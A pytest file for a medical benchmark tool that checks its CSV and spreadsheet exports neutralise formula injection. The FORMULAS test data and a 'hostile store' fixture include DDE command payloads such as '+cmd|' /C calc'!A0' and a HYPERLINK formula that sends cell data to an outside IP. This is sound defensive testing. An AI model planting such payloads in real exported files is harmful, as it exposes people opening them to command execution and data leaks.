"""No text of a model becomes a formula in a spreadsheet, and no cell is cut without a word."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

import medhelm as package
from medhelm.domain import JURY, RULES, Completion, Estimate, Judgment, JuryVerdict, Record, Score
from medhelm.io.parquet import sql_text
from medhelm.io.spreadsheets import (
    FORMULA,
    LONGEST_CELL,
    NUMBER,
    cell_parts,
    csv_file,
    guarded,
    is_formula,
    is_too_long,
    unguarded,
)
from tests.support.cli import Medhelm
from tests.support.stores import jury_of, make_run, write_run

FORMULAS = [
    "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '-2 +HYPERLINK("http://203.0.113.5/?x="&A2,"x")',
    "+1 +cmd|' /C calc'!A0", "-1.5%+HYPERLINK(1)", "-1e5*cmd()", "\n=1+1", "\r\n=1+1", "\t=1+1", "\ttext", "\rtext",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\u2066=1+1", "\x00=1+1", "\x1b=1+1", "\x85=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufe66A1", "\u2212A1", "'=1+1", "''=1+1", "'\t=1+1",
    "- rest and fluids", "-", "-5\n=1+1", "-5\n", "+1 [=cmd]", "-1 [2](3)", "-1 [1]+A2", "-0.1 [-0.2, 0.1] +A2", "-٥",
]  # fmt: skip
TEXTS = [
    "", "a", "text = more", "a@b.example", "5", "-5", "+5", "-0.5", "-.5", "-1,234.5", "-12%", "-1e-05", "+1.5E3",
    "-0.019 [-0.054, 0.011]", "'tis", "'", "<0.001", "(=1)", '"=1"', "–", "é", "openai/gpt-4o", "[x](y)",
]  # fmt: skip
any_text = st.one_of(
    st.text(), st.text(st.sampled_from("'=+-@\t\r\n \u00a0\ufeff＝1.,%eE[]a")), st.sampled_from(FORMULAS + TEXTS)
)


def test_formulas_are_known_from_texts_and_numbers() -> None:
    assert [text for text in FORMULAS if not is_formula(text)] == []
    assert [text for text in TEXTS if is_formula(text)] == []


@given(any_text)
def test_a_guarded_text_is_no_formula_and_can_be_restored(text: str) -> None:
    field = guarded(text)
    assert unguarded(field) == text
    assert field == text or field[0] == "'"
    stripped = text.strip("".join(map(chr, range(33))) + "\u00a0\ufeff\u200b'")
    assert field != text or not stripped.startswith(tuple("=+-@＝＋－＠")) or not any(map(str.isalpha, stripped[:1]))


@given(st.lists(any_text.filter(lambda text: "\0" not in text), min_size=1, max_size=20))
def test_the_database_knows_the_same_formulas(texts: list[str]) -> None:
    texts = [text.encode("utf-8", "replace").decode() for text in texts]
    query = (
        f"SELECT regexp_matches(t, {sql_text(FORMULA)}) AND NOT regexp_matches(t, {sql_text(NUMBER)}) "
        "FROM (SELECT unnest($texts::VARCHAR[]) AS t)"
    )
    with duckdb.connect() as connection:
        found = [row[0] for row in connection.execute(query, {"texts": texts}).fetchall()]
    assert found == [is_formula(text) for text in texts]


@pytest.mark.parametrize(
    "text", ["", "a", "x" * LONGEST_CELL, "x" * 100_000, "\U0001f600" * LONGEST_CELL, "é" * 40_000]
)
def test_parts_of_a_text_fit_into_cells(text: str) -> None:
    parts = cell_parts(text)
    assert "".join(parts) == text
    assert all(len(part.encode("utf-16-le")) // 2 <= LONGEST_CELL for part in parts)
    assert is_too_long(text) == (len(parts) > 1)
    assert cell_parts("a\ud800b\uffff") == ["a\ufffdb\ufffd"]
    assert csv_file("a,b\n") == b"a,b\n"
    assert csv_file("Étude\n") == b"\xef\xbb\xbf\xc3\x89tude\n"


# --- every writer -----------------------------------------------------------------------------------------------------

GUARDED = {"reports/formats/tables.py", "storage/export_tables.py", "results/ratings.py"}
"""Modules that write cells with texts of models or users."""
INVENTED = {"benchmarks/new_benchmark.py", "benchmarks/data/sample_files.py"}
"""Modules that write our own invented rows as data of a benchmark, which is read back as it is."""


def test_every_writer_of_csv_and_workbooks_uses_the_guard() -> None:
    writers, users = set(), set()
    source = Path(package.__file__).parent
    for path in source.rglob("*.py"):
        name, text = path.relative_to(source).as_posix(), path.read_text(encoding="utf-8")
        calls = {node.attr for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Attribute)}
        if "xlsxwriter" in text or "FORMAT csv" in text or ("import csv" in text and calls & {"writer", "DictWriter"}):
            writers.add(name)
        if "medhelm.io.spreadsheets" in text:
            users.add(name)
    assert writers == GUARDED | INVENTED
    assert users >= GUARDED


COMMANDS = [
    ("leaderboard",),
    ("leaderboard", "--by", "head-to-head"),
    ("compare", "--all"),
    ("cost",),
    ("jury",),
    ("runs", "list"),
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two models with the names of formulas, whose completions, judges, messages and ids are formulas too."""
    folder = tmp_path_factory.mktemp("hostile") / "store"
    jury = jury_of("=HYPERLINK(9)", min_judges=1)
    formulas = [text for text in FORMULAS if "\x00" not in text]

    def record(position: int, shift: int) -> Record:
        score = float(1 + (position + shift) % 5)
        judgment = Judgment(
            judge=jury.jury.judges[0].name, criterion="tone", score=score, explanation=formulas[position]
        )
        return Record(
            position=position,
            instance_id=f"+{position}+A1",
            cluster=f"=A{position}",
            request_digest=b"",
            completion=Completion(text=formulas[position]),
            scores=tuple(Score(metric=JURY, rule=rule, value=score) for rule in RULES),
            jury_verdict=JuryVerdict(scores=(), judgments=(judgment,)),
        )

    for shift, model in enumerate(("=HYPERLINK(1)", "-2 +HYPERLINK(2)")):
        mean = Estimate(value=3.0, low=2.0, high=4.0, n=len(formulas), n_failed=0, method="t")
        estimates = {rule: {JURY: mean} for rule in RULES}
        run = make_run("triage", model, n=len(formulas), main_metric=JURY, jury_result=jury, estimates=estimates)
        write_run(folder, run, [record(position, shift) for position in range(len(formulas))], [JURY])
    return folder


def formulas_in(content: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline="")))
    return [cell for row in rows for cell in row if is_formula(cell) and not cell.startswith("'")]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_table_as_csv_has_no_formula(medhelm: Medhelm, hostile_store: Path, command: tuple[str, ...]) -> None:
    done = medhelm(*command, "--format", "csv", "--store", hostile_store)
    assert done.code == 0, done.err
    assert "HYPERLINK" in done.out
    assert formulas_in(done.out) == []


def test_exported_tables_have_no_formula(medhelm: Medhelm, hostile_store: Path, tmp_path: Path) -> None:
    done = medhelm("export", "csv", tmp_path / "t", "--with-text", "--store", hostile_store)
    assert done.code == 0, done.err
    contents = {path.name: path.read_text(encoding="utf-8") for path in (tmp_path / "t").glob("*.csv")}
    assert "HYPERLINK" in contents["records.csv"]
    assert {name: found for name, text in contents.items() if (found := formulas_in(text))} == {}


def test_a_sample_for_raters_has_no_formula_and_is_read_back(
    medhelm: Medhelm, hostile_store: Path, tmp_path: Path
) -> None:
    file = tmp_path / "r.csv"
    done = medhelm("agreement", "sample", "--size", 99, "--show-models", "--raters", 2, file, "--store", hostile_store)
    assert done.code == 0, done.err
    content = file.read_text(encoding="utf-8")
    assert content.startswith("\ufeff")  # it has signs that are not ASCII
    assert formulas_in(content) == []
    rows = list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff"), newline="")))
    assert {row["model"] for row in rows} == {"'=HYPERLINK(1)", "'-2 +HYPERLINK(2)"}
    with file.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, list(rows[0]))
        writer.writeheader()
        writer.writerows(row | {"tone": str(1 + number % 5)} for number, row in enumerate(rows))
    compared = medhelm("agreement", file, "--store", hostile_store, "--format", "json")
    assert compared.code == 0, compared.err
    assert json.loads(compared.out)["datasets"]["triage"]["n_raters"] == 2
